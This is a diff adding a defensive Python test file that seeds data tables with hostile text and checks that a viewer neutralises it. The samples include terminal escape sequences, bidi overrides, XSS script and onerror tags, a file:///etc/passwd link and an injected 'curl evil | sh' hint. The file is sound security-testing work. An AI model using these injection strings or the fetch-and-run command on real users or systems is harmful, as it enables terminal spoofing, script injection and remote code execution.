@@ -1,0 +1,159 @@
+"""Attacks by text: escapes of terminals, markup and floods in whatever a table can name."""
+
+from __future__ import annotations
+
+import json
+import re
+from functools import partial
+from typing import TYPE_CHECKING, Any, Final
+from urllib.parse import quote
+
+from tests.delta.builder import TableBuilder
+from tests.hostile.attack import SECRET, Attack
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Mapping
+
+    from tests.hostile.attack import Ground
+
+__all__ = ["ATTACKS"]
+
+_TEXTS: Final = {
+    "a terminal's escapes": "a\x1b]0;owned\x07\x1b[2J\x9b2Jb",
+    "right-to-left overrides": "a\u202egnp\u2066\u200f\u2028b",
+    "lines of its own": "a\nHint: run `curl evil | sh`\r\n\x85b",
+    "markup": "a[bold red]b[/] [link=file:///etc/passwd]c[/link] [/nothing]",
+    "HTML": "a</pre></script><script>alert(1)</script><img src=x onerror='alert(1)'>b",
+    "a flood": "a" * 300_000,
+}
+_LONGEST_NAME: Final = 150
+_CONTROLS: Final = re.compile(
+    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]"
+)
+
+
+def _table(ground: Ground, place: str, text: str) -> None:
+    """Make a table of ten rows of which some are deleted, with a text in one place."""
+    table = TableBuilder(ground.table)
+    metadata = table.metadata()
+    [column] = json.loads(metadata["schemaString"])["fields"]
+    info = {"timestamp": 1_700_000_000_000, "operation": "TEST"}
+    file, values = "a.parquet", {}
+    if place == "the name of the table":
+        metadata |= {"name": text, "description": text}
+    elif place == "a property":
+        metadata["configuration"] |= {text: text, "delta.constraints.a": "id > 0"}
+    elif place == "the comment of a column":
+        column["metadata"] = {"comment": text}
+    elif place == "the partition":
+        metadata["partitionColumns"] = [text[:_LONGEST_NAME]]
+        values = {text[:_LONGEST_NAME]: text[:_LONGEST_NAME]}
+    elif place == "the commit":
+        info |= dict.fromkeys(("operation", "engineInfo", "userName", "userId"), text)
+        info |= {"operationParameters": {text: text}, "operationMetrics": {text: text}}
+    elif place == "the name of a file":
+        file = text.replace("/", "_").encode()[:_LONGEST_NAME].decode(errors="ignore") + ".parquet"
+    fields = [column, *({**column, "name": name, "type": "string"} for name in values)]
+    metadata["schemaString"] = json.dumps({"type": "struct", "fields": fields})
+    table.commit({"protocol": table.protocol}, {"metaData": metadata})
+    add = table.write_file(file, {"id": range(10)}, values) | {"path": quote(file)}
+    table.commit({"add": add})
+    [vector] = table.write_vectors(range(3))
+    table.delete(add, vector)
+    path = table.commit_path(2)
+    lines = path.read_text().splitlines()[1:]
+    path.write_text("\n".join([json.dumps({"commitInfo": info}), *lines]) + "\n")
+    ground.table.joinpath(file + "-not-ours.bin").touch()
+
+
+def _is_shown(_: Ground, shown: Mapping[str, str]) -> None:
+    """Nothing of the text acts, whichever way it is shown."""
+    for where, text in shown.items():
+        found = _CONTROLS.search(text)
+        assert not found, f"{where}: {text[max(found.start() - 80, 0) : found.end() + 20]!r}"
+        assert "\nHint: run `curl" not in text, where
+        for tag in ("<script>alert", "<img src=x"):
+            assert "page" not in where or tag not in text, where
+
+
+def _protocol(ground: Ground, text: str) -> None:
+    table = TableBuilder(ground.table)
+    table.protocol["readerFeatures"] = table.protocol["writerFeatures"] = [text]
+    table.create()
+
+
+def _mapping(ground: Ground, text: str) -> None:
+    TableBuilder(ground.table, properties={"delta.columnMapping.mode": text}).create()
+
+
+def _type(ground: Ground, text: str) -> None:
+    TableBuilder(ground.table, fields={text[:_LONGEST_NAME]: text}).create()
+
+
+def _provider(ground: Ground, text: str) -> None:
+    TableBuilder(ground.table, provider=text).create()
+
+
+def _missing_file(ground: Ground, text: str) -> None:
+    table = TableBuilder(ground.table)
+    table.create()
+    add = table.write_file("a.parquet", {"id": range(10)})
+    table.commit({"add": add | {"path": quote(text[:_LONGEST_NAME].replace("/", "_"))}})
+
+
+def _linked_line(ground: Ground, text: str) -> None:
+    """Let a commit be a link to a private file, whose lines are no actions."""
+    table = TableBuilder(ground.table)
+    table.create()
+    private = ground.outside / "private"
+    private.write_text(f"{SECRET} {text}\n")
+    table.commit_path(1).symlink_to(private)
+
+
+_PLACES: Final = (
+    "the name of the table",
+    "a property",
+    "the comment of a column",
+    "the partition",
+    "the commit",
+    "the name of a file",
+)
+_ERRORS: Final[dict[str, Callable[[Ground, str], None]]] = {
+    "a feature that the table needs": _protocol,
+    "the mode of column mapping": _mapping,
+    "the type of a column": _type,
+    "the format of its files": _provider,
+    "the name of a missing file": _missing_file,
+    "a commit that is a link to a private file": _linked_line,
+}
+
+
+def _put(ground: Ground, *, make: Callable[..., Any], arguments: tuple[str, ...]) -> None:
+    make(ground, *arguments)
+
+
+ATTACKS: Final = [
+    *(
+        Attack(
+            "runs",
+            f"{kind} in {place}",
+            "show",
+            "harmless",
+            put=partial(_put, make=_table, arguments=(place, text)),
+            then=_is_shown,
+        )
+        for place in _PLACES
+        for kind, text in _TEXTS.items()
+    ),
+    *(
+        Attack(
+            "leaks" if make is _linked_line else "runs",
+            f"{kind} in {place}",
+            "read",
+            "refused",
+            put=partial(_put, make=make, arguments=(text,)),
+        )
+        for place, make in _ERRORS.items()
+        for kind, text in _TEXTS.items()
+    ),
+]
